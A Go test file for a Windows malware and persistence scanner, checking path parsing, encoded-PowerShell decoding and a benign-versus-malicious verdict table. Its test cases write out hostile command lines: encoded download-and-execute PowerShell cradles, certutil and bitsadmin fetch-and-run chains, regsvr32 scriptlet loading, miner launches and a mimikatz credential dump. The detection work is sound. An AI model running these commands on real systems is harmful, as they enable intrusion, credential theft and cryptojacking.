package windows

import (
	"encoding/base64"
	"sort"
	"strings"
	"testing"

	"github.com/snapscan/snapscan/signatures"
)

func mustRules(t testing.TB) *rules {
	r, err := loadRules()
	if err != nil {
		t.Fatalf("loading signatures/windows: %v", err)
	}
	return r
}

// psEnc encodes a script the way powershell -EncodedCommand expects it.
func psEnc(s string) string {
	b := make([]byte, 0, 2*len(s))
	for _, c := range s {
		b = append(b, byte(c), byte(c>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestNormPath(t *testing.T) {
	cases := []struct{ in, want string }{
		{`C:\Windows\System32\svchost.exe`, "/windows/system32/svchost.exe"},
		{`"C:\Program Files\X\y.exe"`, "/program files/x/y.exe"},
		{`\SystemRoot\System32\drivers\disk.sys`, "/windows/system32/drivers/disk.sys"},
		{`System32\drivers\disk.sys`, "/windows/system32/drivers/disk.sys"},
		{`\??\C:\ProgramData\x.sys`, "/programdata/x.sys"},
		{`\\?\C:\Temp\a.exe`, "/temp/a.exe"},
		{`\\server\share\a.exe`, "//server/share/a.exe"},
		{`\\?\UNC\server\share\a.exe`, "//server/share/a.exe"},
		{`ctfmon.exe`, "/windows/system32/ctfmon.exe"},
		{`D:\tools\a.exe`, "d:/tools/a.exe"},
		{`C:\Windows\..\Users\Public\a.exe`, "/users/public/a.exe"},
		{`c:x.exe`, "/x.exe"},
	}
	for _, c := range cases {
		if got := normPath(c.in); got != c.want {
			t.Errorf("normPath(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestParseCommand(t *testing.T) {
	r := mustRules(t)
	cases := []struct{ line, user, exe, args, base string }{
		{`"C:\Program Files (x86)\Skype\Phone\Skype.exe" /nosplash /minimized`, "", `C:\Program Files (x86)\Skype\Phone\Skype.exe`, "/nosplash /minimized", "skype.exe"},
		{`C:\Program Files\Windows Defender\MpCmdRun.exe -IdleTask -TaskName WdCleanup`, "", `C:\Program Files\Windows Defender\MpCmdRun.exe`, "-IdleTask -TaskName WdCleanup", "mpcmdrun.exe"},
		{`%ProgramFiles%\Windows Sidebar\Sidebar.exe /autoRun`, "", `C:\Program Files\Windows Sidebar\Sidebar.exe`, "/autoRun", "sidebar.exe"},
		{`%APPDATA%\x\miner.exe -B`, "alice", `C:\Users\alice\AppData\Roaming\x\miner.exe`, "-B", "miner.exe"},
		{`powershell -nop -c "x"`, "", "powershell", `-nop -c "x"`, "powershell.exe"},
		{`%UNKNOWN%\a.exe`, "", `%UNKNOWN%\a.exe`, "", "a.exe"},
		{`"unterminated`, "", "unterminated", "", "unterminated.exe"},
		{``, "", "", "", ""},
		{`certutil -urlcache -f http://x/a.exe a.exe`, "", "certutil", "-urlcache -f http://x/a.exe a.exe", "certutil.exe"},
		{`C:\Program Files\A B\c.exe -x D:\e f.exe`, "", `C:\Program Files\A B\c.exe`, `-x D:\e f.exe`, "c.exe"},
	}
	for _, c := range cases {
		got := r.parseCommand(c.line, c.user)
		if got.Exe != c.exe || got.Args != c.args || got.Base != c.base {
			t.Errorf("parseCommand(%q) = exe %q args %q base %q; want %q %q %q", c.line, got.Exe, got.Args, got.Base, c.exe, c.args, c.base)
		}
	}
}

func TestDecodeEncoded(t *testing.T) {
	script := "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.2/a')"
	cases := []struct {
		in   string
		want string
		ok   bool
	}{
		{psEnc(script), script, true},
		{strings.TrimRight(psEnc("Write-Host hi"), "="), "Write-Host hi", true},
		{"not*base64!", "", false},
		{"QQ==", "", false}, // one byte: no UTF-16 text
	}
	for _, c := range cases {
		got, ok := decodeEncoded(c.in, "utf16-base64")
		if ok != c.ok || got != c.want {
			t.Errorf("decodeEncoded(%q) = %q, %v; want %q, %v", c.in, got, ok, c.want, c.ok)
		}
	}
}

func TestSplitCmdLine(t *testing.T) {
	got := splitCmdLine(`certutil -urlcache -f http://x/a.exe a.exe && a.exe & echo "a&b" | more`)
	want := []string{"certutil -urlcache -f http://x/a.exe a.exe", "a.exe", `echo "a&b"`, "more"}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("splitCmdLine = %q, want %q", got, want)
	}
}

// TestJudge is the verdict table: what a command line does decides, not the
// program's name. Benign lines from real hives and task folders must stay
// below medium; the malicious ones must give exactly the listed rules.
func TestJudge(t *testing.T) {
	r := mustRules(t)
	cradle := "IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/p.ps1')"
	cases := []struct {
		name  string
		line  string
		user  string
		kind  placeKind
		rules string // sorted rule=severity list; "" means no hit at all
	}{
		// Benign, seen on real systems (shared/external hives and tasks).
		{"ctfmon", `C:\WINDOWS\system32\ctfmon.exe`, "", logonPlace, ""},
		{"sidebar", `%ProgramFiles%\Windows Sidebar\Sidebar.exe /autoRun`, "", logonPlace, ""},
		{"google update per-user", `"C:\Users\nfury\AppData\Local\Google\Update\GoogleUpdate.exe" /c`, "nfury", logonPlace, ""},
		{"skype", `"C:\Program Files (x86)\Skype\Phone\Skype.exe" /nosplash /minimized`, "", logonPlace, ""},
		{"spotify", `"C:\Users\bperry\AppData\Roaming\Spotify\Spotify.exe" -autostart -minimized`, "bperry", logonPlace, ""},
		{"onedrive", `"C:\Users\tony\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background`, "tony", logonPlace, ""},
		{"onedrive cleanup", `C:\WINDOWS\system32\cmd.exe /q /c del /q "C:\Users\tony\AppData\Local\Microsoft\OneDrive\Update\OneDriveSetup.exe"`, "tony", logonPlace, ""},
		{"onedrive uninstall", `C:\WINDOWS\system32\cmd.exe /q /c rmdir /s /q "C:\Users\tony\AppData\Local\Microsoft\OneDrive\20.028.0206.0006"`, "tony", logonPlace, ""},
		{"pca rundll32", `%windir%\system32\rundll32.exe %windir%\system32\PcaSvc.dll,PcaPatchSdbTask`, "", logonPlace, ""},
		{"autochk rundll32", `%windir%\system32\rundll32.exe /d acproxy.dll,PerformAutochkOperations`, "", logonPlace, ""},
		{"defender", `"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2205.7-0\MsMpEng.exe"`, "", servicePlace, ""},
		{"svchost service", `%SystemRoot%\system32\svchost.exe -k netsvcs -p`, "", servicePlace, ""},
		{"driver", `\SystemRoot\System32\drivers\tcpip.sys`, "", servicePlace, ""},
		{"vendor app in AppData", `"C:\Users\a\AppData\Local\Vendor\App\app.exe"`, "a", logonPlace, "odd-place=low"},

		// Malicious.
		{"xmrig in AppData", `C:\Users\a\AppData\Roaming\xmrig.exe --donate-level 1`, "a", logonPlace, "miner=critical odd-place=medium"},
		{"renamed miner by options", `C:\ProgramData\svc\svc.exe -o 198.51.100.7:3333 -u wallet --coin monero`, "", servicePlace, "miner=high odd-place=medium"},
		{"stratum url", `C:\Windows\Temp\x.exe -o stratum+tcp://198.51.100.7:14444`, "", logonPlace, "miner=critical odd-place=high"},
		{"pool subdomain", `C:\Program Files\x\x.exe --url=gulf.moneroocean.stream:10128`, "", logonPlace, "miner-pool=critical"},
		{"encoded cradle -enc", `powershell.exe -enc ` + psEnc(cradle), "", logonPlace, "download=medium download-exec=high encoded-command=medium invoke-expression=medium powershell=medium"},
		{"encoded -e abbreviation", `powershell -e ` + psEnc("Start-Process calc"), "", logonPlace, "encoded-command=medium powershell=medium"},
		{"encoded -EncodedCommand", `powershell.exe -NoProfile -EncodedCommand ` + psEnc("xmrig.exe -B"), "", logonPlace, "encoded-command=medium miner=critical powershell-hidden=high"},
		{"encoded /ec", `pwsh.exe /ec ` + psEnc("iwr http://x/a | iex"), "", logonPlace, "download-exec=high encoded-command=medium invoke-expression=medium powershell=medium"},
		{"hidden window", `powershell.exe -WindowStyle Hidden -nop -c ""`, "", logonPlace, "powershell-hidden=high"},
		{"cmd chain to certutil", `cmd.exe /c certutil -urlcache -split -f http://x/a.exe C:\Users\Public\a.exe && C:\Users\Public\a.exe`, "", logonPlace, "certutil-download=high cmd=low odd-place=high"},
		{"mshta", `mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")`, "", logonPlace, "mshta=high"},
		{"regsvr32 squiblydoo", `regsvr32 /s /n /u /i:http://198.51.100.3/a.sct scrobj.dll`, "", logonPlace, "regsvr32-scriptlet=high"},
		{"rundll32 dll in temp", `rundll32.exe C:\Users\a\AppData\Local\Temp\x.dll,Start`, "a", logonPlace, "odd-place=high"},
		{"rundll32 javascript", `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)`, "", logonPlace, "rundll32-script=high"},
		{"bitsadmin", `bitsadmin /transfer j /download /priority high http://x/a.exe C:\a.exe`, "", logonPlace, "bitsadmin=high"},
		{"svchost look-alike", `C:\ProgramData\Host\svchost.exe -k netsvc`, "", logonPlace, "masquerade=high odd-place=low"},
		{"root of drive", `C:\miner.exe`, "", logonPlace, "odd-place=high"},
		{"unc", `\\198.51.100.4\share\a.exe`, "", logonPlace, "odd-place=high"},
		{"mimikatz", `C:\TMP\mim.exe sekurlsa::LogonPasswords > C:\TMP\o.txt`, "", logonPlace, "credential-dumping=critical odd-place=medium"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			hits := r.judge(c.line, c.user, c.kind)
			var got []string
			for _, h := range hits {
				got = append(got, h.Rule+"="+h.Severity.String())
				if h.Title == "" || h.Match == "" {
					t.Errorf("hit %s has no title or match", h.Rule)
				}
			}
			sort.Strings(got)
			want := strings.Fields(c.rules)
			sort.Strings(want)
			if strings.Join(got, " ") != strings.Join(want, " ") {
				t.Errorf("judge(%q)\n got  %v\n want %v", c.line, got, want)
			}
		})
	}
}

// TestRulesData checks the data files as a whole: every technique they use
// has a name, every place has a remediation, and the list files parse.
func TestRulesData(t *testing.T) {
	r := mustRules(t)
	techs := map[string]bool{}
	for _, ls := range r.lolbins {
		for _, l := range ls {
			techs[l.technique] = true
		}
	}
	for _, es := range r.encoded {
		for _, e := range es {
			techs[e.technique] = true
		}
	}
	for _, m := range r.markers {
		techs[m.technique] = true
		if m.kind == "pools" && len(m.pools) == 0 {
			t.Errorf("pools marker loaded no pool names")
		}
	}
	for _, la := range r.lookalikes {
		techs[la.technique] = true
	}
	for _, st := range r.startupExt {
		techs[st.technique] = true
	}
	for _, p := range r.placeInfo {
		techs[p.technique] = true
		if !strings.Contains(p.remediation, "{path}") {
			t.Errorf("remediation %q does not name the evidence path", p.remediation)
		}
	}
	for tech := range techs {
		if r.techniques[tech] == "" {
			t.Errorf("technique %q used in signatures/windows has no name in techniques.txt", tech)
		}
	}
	if len(r.autostart) < 10 || len(r.places) < 10 || len(r.winlogon) == 0 || len(r.startupDirs) != 2 {
		t.Errorf("suspiciously little data loaded: %d autostart keys, %d places", len(r.autostart), len(r.places))
	}
}

// TestRulesErrors feeds broken data files through the same loader: a bad
// line must be an error naming the file and line, never a panic.
func TestRulesErrors(t *testing.T) {
	cases := []struct {
		file, content, want string
	}{
		{"windows/places.txt", "/x/**;loud;high;what\n", "places.txt line 1"},
		{"windows/lolbins.txt", "a.exe;(unclosed;r;high;T1;t;none\n", "lolbins.txt line 1"},
		{"windows/encoded.txt", "a.exe;-e\\s+\\S+;utf16-base64;r;medium;T1027;t\n", "capture group"},
		{"windows/markers.txt", "glob;x;r;high;T1;;t\n", "unknown marker kind"},
		{"windows/winlogon.txt", "SOFTWARE;k;v\n", "want 5 fields"},
	}
	for _, c := range cases {
		list := func(name string) ([]signatures.Entry, error) {
			if name == c.file {
				return signatures.ParseList([]byte(c.content)), nil
			}
			return signatures.List(name)
		}
		_, err := parseRules(list)
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s with %q: err = %v, want it to mention %q", c.file, c.content, err, c.want)
		}
	}
}

func TestFindPool(t *testing.T) {
	pools := []string{"supportxmr.com", "nanopool.org"}
	cases := []struct{ text, want string }{
		{"-o pool.supportxmr.com:443", "pool.supportxmr.com"},
		{"xmr-eu1.nanopool.org", "xmr-eu1.nanopool.org"},
		{"notsupportxmr.com", ""},
		{"supportxmr.com.evil.example", ""},
		{"C:\\Windows\\system32\\ctfmon.exe", ""},
	}
	for _, c := range cases {
		if got := findPool(strings.ToLower(c.text), pools); got != c.want {
			t.Errorf("findPool(%q) = %q, want %q", c.text, got, c.want)
		}
	}
}
